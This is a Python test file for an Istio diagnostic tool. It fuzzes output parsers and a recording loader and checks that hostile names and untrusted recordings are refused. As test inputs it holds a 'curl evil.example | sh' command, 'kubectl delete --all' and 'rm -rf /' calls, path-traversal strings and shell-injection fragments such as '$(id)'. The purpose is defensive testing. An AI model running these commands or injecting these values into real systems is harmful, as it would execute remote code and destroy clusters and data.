"""Hostile input: parsers, recordings, names and replays never do more than refuse.

* Every parser raises only ``ParseError`` (or returns) on arbitrary text and on mutated real
  outputs (the scenario kit renders the real formats: truncations, flipped bytes, wrong JSON
  types). Anything else would escape as a traceback or a wrong "healthy".
* The recording loader raises only ``RecordingError`` on arbitrary YAML, mutated recordings and
  corrupt gzip, and never reads outside the recording's directory.
* Names with shell metacharacters, leading dashes, flag-like text, unicode, NUL or excess
  length are refused by ``Target.parse`` and by the CLI (exit 2) before any process exists.
* A recording from an untrusted colleague cannot make the tool run anything: a replayed
  diagnosis spawns no process and issues no non-read-only argv, even when the recording holds
  ``kubectl delete`` calls.

Budget: hypothesis runs with fixed, small example counts (``deadline=None``) so the whole file
stays well under 20 s on a CI runner.
"""

from __future__ import annotations

import asyncio
import copy
import gzip
import json
import random
import re
import subprocess
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from istio_doctor.evidence import kube
from istio_doctor.evidence.accesslog import parse_proxy_log
from istio_doctor.evidence.analyze import parse_analyze
from istio_doctor.evidence.describe import parse_describe_pod
from istio_doctor.evidence.envoy.configdump import parse_config_dump
from istio_doctor.evidence.envoystats import parse_envoy_clusters, parse_envoy_stats
from istio_doctor.evidence.errors import ParseError
from istio_doctor.evidence.meshconfig import control_plane_configs
from istio_doctor.evidence.proxystatus import parse_proxy_status
from istio_doctor.evidence.recording import RecordingError, load_recording
from istio_doctor.evidence.runner import CommandRefused, CommandResult, ReplayRunner, Runner
from istio_doctor.evidence.safety import check_read_only
from istio_doctor.evidence.sockets import parse_listening_sockets
from istio_doctor.evidence.target import Connection, InvalidName, Target
from istio_doctor.evidence.versions import parse_istioctl_version, parse_kubectl_version
from istio_doctor.exitcodes import ExitCode
from tests.scenariokit.bookinfo import bookinfo_world
from tests.scenariokit.runner import WorldRunner

ROOT = Path(__file__).resolve().parent.parent
FAST = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


def _control_plane(text: str) -> Any:
    return control_plane_configs(kube.parse_kube_list(text, kube.ConfigMap))


PARSERS: dict[str, Callable[[str], Any]] = {
    "parse_kube_list": lambda t: kube.parse_kube_list(t, kube.Pod),
    "parse_kube_object": lambda t: kube.parse_kube_object(t, kube.Pod),
    "parse_kube_list_services": lambda t: kube.parse_kube_list(t, kube.Service),
    "parse_analyze": parse_analyze,
    "parse_istioctl_version": parse_istioctl_version,
    "parse_kubectl_version": parse_kubectl_version,
    "parse_proxy_status": parse_proxy_status,
    "parse_describe_pod": parse_describe_pod,
    "parse_proxy_log": parse_proxy_log,
    "parse_listening_sockets": parse_listening_sockets,
    "parse_envoy_stats": parse_envoy_stats,
    "parse_envoy_clusters": parse_envoy_clusters,
    "parse_config_dump": parse_config_dump,
    "control_plane_configs": _control_plane,
}


def _real_outputs() -> dict[str, list[str]]:
    """Real-format seeds for each parser, rendered by the scenario kit (several versions/formats)."""
    out: dict[str, list[str]] = {k: [] for k in PARSERS}
    for version in ("1.22.3", "1.28.1", "1.30.0"):
        w = bookinfo_world(version)
        r = WorldRunner(w)
        pod = next(p for p in w.pods if p.workload.name == "reviews-v2")
        base = ["-n", "default"]

        def run(*argv: str) -> str:
            return r.run_sync(list(argv)).stdout

        out["parse_kube_list"].append(run("kubectl", "get", "pods", *base, "-o", "json"))
        out["parse_kube_object"].append(run("kubectl", "get", "pod", pod.name, *base, "-o", "json"))
        out["parse_kube_list_services"].append(run("kubectl", "get", "services", "--all-namespaces", "-o", "json"))
        out["parse_analyze"].append(run("istioctl", "analyze", *base, "-o", "json"))
        res = r.run_sync(["istioctl", "analyze", *base])
        out["parse_analyze"].append(res.stdout + res.stderr)
        out["parse_istioctl_version"].append(run("istioctl", "version", "-o", "json"))
        out["parse_kubectl_version"].append(run("kubectl", "version", "-o", "json"))
        out["parse_proxy_status"].append(run("istioctl", "proxy-status"))
        if version >= "1.28":
            out["parse_proxy_status"].append(run("istioctl", "proxy-status", "--verbose"))
        if version >= "1.30":
            out["parse_proxy_status"].append(run("istioctl", "proxy-status", "-o", "json"))
        out["parse_describe_pod"].append(r.run_sync(["istioctl", "x", "describe", "pod", pod.name, *base]).stdout)
        out["parse_proxy_log"].append(run("kubectl", "logs", pod.name, *base, "-c", "istio-proxy", "--tail=2000"))
        exec_ = ["kubectl", "exec", pod.name, *base, "-c", "istio-proxy", "--"]
        out["parse_listening_sockets"] += [run(*exec_, "netstat", "-tln"), run(*exec_, "ss", "-ltn"),
                                           run(*exec_, "cat", "/proc/net/tcp", "/proc/net/tcp6")]
        out["parse_envoy_stats"].append(run(*exec_, "pilot-agent", "request", "GET", "stats"))
        out["parse_envoy_clusters"].append(run(*exec_, "pilot-agent", "request", "GET", "clusters"))
        out["parse_config_dump"].append(run("istioctl", "proxy-config", "all", pod.name, *base, "-o", "json"))
        out["control_plane_configs"].append(run("kubectl", "get", "configmaps", "-n", "istio-system", "-o", "json"))
    for k, v in out.items():
        assert v and all(v), f"no real output rendered for {k}"
    return out


SEEDS = _real_outputs()


def must_only_raise_parse_error(parser: Callable[[str], Any], text: str) -> None:
    try:
        parser(text)
    except ParseError:
        pass


# -- mutations of real outputs ----------------------------------------------------------------

_WRONG = [None, 0, -1, 1.5, True, "", "x" * 3, [], {}, [None], {"a": None}, "9" * 40, -(2**70)]


def _json_paths(node: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [path]
    if isinstance(node, dict):
        for k, v in node.items():
            out += _json_paths(v, (*path, k))
    elif isinstance(node, list):
        for i, v in enumerate(node[:20]):
            out += _json_paths(v, (*path, i))
    return out


def _set(node: Any, path: tuple[Any, ...], value: Any) -> Any:
    if not path:
        return value
    node[path[0]] = _set(node[path[0]], path[1:], value)
    return node


def mutate(text: str, rnd: random.Random) -> str:
    """One of: truncate, flip bytes, duplicate/delete a slice, or (JSON) a wrong-typed value."""
    choice = rnd.randrange(5)
    if choice == 0:
        return text[: rnd.randrange(len(text) + 1)]
    if choice == 1:
        b = bytearray(text.encode())
        for _ in range(rnd.randint(1, 8)):
            if b:
                b[rnd.randrange(len(b))] = rnd.randrange(256)
        return b.decode("utf-8", errors="replace")
    if choice == 2:
        i, j = sorted(rnd.randrange(len(text) + 1) for _ in range(2))
        return text[:i] + text[i:j] * rnd.randint(0, 3) + text[j:]
    try:
        doc = json.loads(text)
    except ValueError:
        lines = text.splitlines(keepends=True)
        rnd.shuffle(lines)
        return "".join(lines)
    paths = _json_paths(doc)
    for _ in range(rnd.randint(1, 4)):
        path = rnd.choice(paths)
        try:
            # a fresh copy: sharing one mutable value between two places could build a cycle
            doc = _set(doc, path, copy.deepcopy(rnd.choice(_WRONG)) if choice == 3 else "\x00\u202e" + "\U0001f4a5" * 3)
        except (KeyError, IndexError, TypeError):
            continue
        paths = _json_paths(doc)
    return json.dumps(doc)


@pytest.mark.parametrize("name", sorted(PARSERS))
@FAST
@given(text=st.one_of(st.text(max_size=400), st.binary(max_size=300).map(lambda b: b.decode("utf-8", "replace")),
                      st.sampled_from(["{}", "[]", "null", "0", '{"items": null}', '{"items": [1]}', '{"configs": {}}',
                                       '{"kind": "List", "items": [{}]}', "\x00" * 10, "\ufeff{}", "-" * 80])))
def test_parsers_on_arbitrary_text(name: str, text: str) -> None:
    must_only_raise_parse_error(PARSERS[name], text)


@pytest.mark.parametrize("name", sorted(PARSERS))
@FAST
@given(seed=st.integers(0, 2**32 - 1), which=st.integers(0, 10))
def test_parsers_on_mutated_real_output(name: str, seed: int, which: int) -> None:
    seeds = SEEDS[name]
    rnd = random.Random(seed)
    text = seeds[which % len(seeds)]
    for _ in range(rnd.randint(1, 3)):
        text = mutate(text, rnd)
    must_only_raise_parse_error(PARSERS[name], text)


@pytest.mark.parametrize("name", sorted(PARSERS))
def test_real_seeds_parse(name: str) -> None:
    """The seeds are real: unmutated, they parse (so the mutations start from valid input)."""
    for text in SEEDS[name]:
        PARSERS[name](text)


# -- recordings -------------------------------------------------------------------------------

REAL_RECORDING = ROOT / "recordings" / "p503" / "localhost-bind-client.yaml"


def _load_text(text: str | bytes, suffix: str = ".yaml") -> None:
    with tempfile.TemporaryDirectory() as d:
        p = Path(d) / f"r{suffix}"
        p.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8", errors="surrogatepass"))
        try:
            load_recording(p)
        except RecordingError:
            pass


_yaml_values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), st.text(max_size=20)),
    lambda children: st.one_of(st.lists(children, max_size=4), st.dictionaries(st.text(max_size=10), children, max_size=4)),
    max_leaves=15,
)


@FAST
@given(doc=st.one_of(
    st.text(max_size=300),
    _yaml_values.map(lambda v: yaml.safe_dump(v)),
    st.fixed_dictionaries({"format": st.just("istio-doctor/recording/v1"), "metadata": _yaml_values,
                           "calls": _yaml_values}).map(yaml.safe_dump),
))
def test_recording_loader_on_arbitrary_yaml(doc: str) -> None:
    _load_text(doc)


REC_TEXT = REAL_RECORDING.read_text()
_CLoader = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
_CDumper = getattr(yaml, "CSafeDumper", yaml.SafeDumper)
_REC = yaml.load(REC_TEXT, Loader=_CLoader)
#: a real recording cut to a few calls: the mutations are the same, the YAML is 100x smaller
SMALL_REC = {**_REC, "calls": _REC["calls"][:6]}


@FAST
@given(seed=st.integers(0, 2**32 - 1))
def test_recording_loader_on_mutated_recordings(seed: int) -> None:
    rnd = random.Random(seed)
    raw = copy.deepcopy(SMALL_REC)
    calls = raw["calls"]
    call = calls[rnd.randrange(len(calls))]
    key = rnd.choice(sorted(call))
    call[key] = copy.deepcopy(rnd.choice(_WRONG + [["kubectl", "delete", "pod", "x"], {"kind": "bogus"}, "../../../../etc/passwd"]))
    if rnd.random() < 0.3:
        raw["metadata"][rnd.choice(sorted(raw["metadata"]))] = copy.deepcopy(rnd.choice(_WRONG))
    text = yaml.dump(raw, Dumper=_CDumper)
    if rnd.random() < 0.5:
        text = mutate(text, rnd)
    _load_text(text)
    blob = bytearray(gzip.compress(text.encode()))
    for _ in range(rnd.randint(0, 6)):  # corrupt gzip: header, deflate stream or CRC
        blob[rnd.randrange(len(blob))] = rnd.randrange(256)
    _load_text(bytes(blob[: rnd.randint(0, len(blob))] if rnd.random() < 0.3 else blob), ".yaml.gz")


def test_stdout_file_cannot_escape_the_recordings_directory(tmp_path: Path) -> None:
    raw = yaml.safe_load(REC_TEXT)
    raw["calls"][0].pop("stdout", None)
    raw["calls"][0]["stdout_file"] = "../secret.txt"
    (tmp_path / "secret.txt").write_text("token: hunter2\n")
    sub = tmp_path / "recs"
    sub.mkdir()
    (sub / "r.yaml").write_text(yaml.safe_dump(raw))
    with pytest.raises(RecordingError, match="inside|outside"):
        load_recording(sub / "r.yaml")


# -- hostile names ----------------------------------------------------------------------------

_DNS = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$")
_HOSTILE_PARTS = [";", "|", "&", "$(id)", "`id`", " ", "\t", "\n", "\0", "'", '"', "\\", "*", "?", "<", ">", "~",
                  "é", "\u202e", "Ω", "A", "_", "/", ":", "=", "--all", "-n", "{}", "%s", "\U0001f4a5"]


@st.composite
def hostile_names(draw: st.DrawFn) -> str:
    kind = draw(st.integers(0, 3))
    if kind == 0:  # leading dash / flag-like
        return draw(st.sampled_from(["-", "--", "-rf", "--help", "--context=evil", "-n", "-oyaml", "--all-namespaces"]))
    if kind == 1:  # too long for RFC 1123
        return "a" * draw(st.integers(254, 400))
    prefix = draw(st.from_regex(r"[a-z0-9]{0,8}", fullmatch=True))
    suffix = draw(st.from_regex(r"[a-z0-9]{0,8}", fullmatch=True))
    bad = draw(st.lists(st.sampled_from(_HOSTILE_PARTS), min_size=1, max_size=3))
    return prefix + "".join(bad) + suffix if kind == 2 else prefix + draw(st.text(min_size=1, max_size=5)) + "".join(bad)


@settings(max_examples=150, deadline=None)
@given(name=hostile_names(), kind=st.sampled_from(["pod", "deploy", "svc", "ns", ""]), ns=st.one_of(st.none(), hostile_names()))
def test_target_parse_refuses_hostile_names(name: str, kind: str, ns: str | None) -> None:
    text = f"{kind}/{name}" if kind else name
    try:
        t = Target.parse(text, ns)
    except (InvalidName, ValidationError):
        return
    # NAME.NAMESPACE splitting may leave valid parts: whatever is accepted must be RFC 1123
    assert _DNS.match(t.namespace) and len(t.namespace) <= 63
    assert t.name == "" or (_DNS.match(t.name) and len(t.name) <= 253)


class _Spawned(AssertionError):
    pass


@pytest.fixture
def no_processes(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any attempt to start a process fails the test."""

    def refuse(*a: object, **k: object) -> Any:
        raise _Spawned(f"a process was started: {a[:3]!r}")

    async def refuse_async(*a: object, **k: object) -> Any:
        raise _Spawned(f"a process was started: {a[:3]!r}")

    monkeypatch.setattr(asyncio, "create_subprocess_exec", refuse_async)
    monkeypatch.setattr(asyncio, "create_subprocess_shell", refuse_async)
    monkeypatch.setattr(subprocess, "Popen", refuse)
    import os

    for fn in ("system", "execv", "execve", "execvp", "posix_spawn", "posix_spawnp", "fork"):
        if hasattr(os, fn):
            monkeypatch.setattr(os, fn, refuse)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=hostile_names(), where=st.sampled_from(["target", "namespace", "context"]))
def test_cli_refuses_hostile_names_before_any_call(no_processes: None, capsys: pytest.CaptureFixture[str],
                                                   name: str, where: str) -> None:
    from istio_doctor.cli import main

    # The generator can compose a valid name by accident (e.g. "0--all"): a valid RFC 1123 name
    # is not hostile, and the tool rightly goes on to call kubectl with it.
    limit = 253 if where == "target" else 63
    if where != "context" and _DNS.match(name) and len(name) <= limit and (where == "target" or "." not in name):
        return
    if where == "target":
        args = ["diagnose", f"pod/{name}", "-n", "default"]
    elif where == "namespace":
        args = ["diagnose", "pod/reviews-v2", f"--namespace={name}"]
    else:
        if not name.startswith("-") and not any(c in name for c in "\n\r\0"):
            return  # a context is a free-form kubeconfig name: only flag-like or broken ones are refused
        args = ["diagnose", "pod/reviews-v2", "-n", "default", f"--context={name}"]
    code = main([*args, "-o", "json"])
    out, err = capsys.readouterr()
    assert code == ExitCode.USAGE, (args, err)
    assert out == "" and err.startswith("istio-doctor: error: ") and "Traceback" not in err


# -- untrusted recordings ---------------------------------------------------------------------

MALICIOUS_CALLS = [
    ["kubectl", "delete", "pod", "--all", "-n", "default"],
    ["istioctl", "install", "-y"],
    ["kubectl", "exec", "reviews-v2", "-n", "default", "-c", "istio-proxy", "--", "rm", "-rf", "/"],
    ["sh", "-c", "curl evil.example | sh"],
]


def _malicious_recording(tmp_path: Path) -> Path:
    raw = yaml.safe_load(REC_TEXT)
    for argv in MALICIOUS_CALLS:
        raw["calls"].append({"argv": argv, "exit_code": 0, "stdout": "pod deleted\n", "stderr": "", "duration_s": 0.1})
    path = tmp_path / "from-a-colleague.yaml"
    path.write_text(yaml.safe_dump(raw, sort_keys=False))
    return path


def test_untrusted_recording_replays_without_any_process(tmp_path: Path, no_processes: None,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    from istio_doctor.cli import main

    path = _malicious_recording(tmp_path)
    code = main(["diagnose", "--replay", str(path), "-o", "json"])
    out, err = capsys.readouterr()
    assert "Traceback" not in err and "a process was started" not in err
    report = json.loads(out)
    assert code == report["exit_code"] == ExitCode.PROBLEMS_FOUND
    assert report["findings"][0]["code"] == "P503-LOCALHOST-BIND"  # the legitimate calls still answer
    issued = [c["argv"] for c in report["calls"]]
    for argv in MALICIOUS_CALLS:
        assert argv not in issued


async def test_replay_issues_only_read_only_argv(tmp_path: Path, no_processes: None) -> None:
    from istio_doctor.run import run_diagnosis

    rec = load_recording(_malicious_recording(tmp_path))
    issued: list[list[str]] = []

    class Spy(ReplayRunner):
        async def run(self, argv: list[str], *, timeout_s: float | None = None) -> CommandResult:
            issued.append(list(argv))
            return await super().run(argv, timeout_s=timeout_s)

    kind_name, _, ns = rec.metadata.target.partition(" -n ")
    result = await run_diagnosis(Target.parse(kind_name, ns or None), Spy(rec, strict=False), Connection())
    assert issued and result.report.findings
    for argv in issued:
        check_read_only(argv)
    for argv in MALICIOUS_CALLS:
        assert argv not in issued
        # and asked directly, replay refuses them exactly as a live runner would
        with pytest.raises(CommandRefused):
            await ReplayRunner(rec).run(argv)


def test_runner_contract_is_what_replay_implements() -> None:
    assert issubclass(ReplayRunner, Runner) and ReplayRunner.replaying
